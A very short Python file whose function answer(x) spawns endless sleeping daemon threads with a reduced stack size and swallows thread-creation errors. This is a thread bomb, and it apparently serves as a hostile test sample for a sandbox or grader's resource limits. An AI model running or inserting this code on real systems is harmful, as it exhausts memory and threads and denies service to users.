"""Starts threads without an end."""

import threading
import time

threading.stack_size(65536)


def answer(x):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            continue
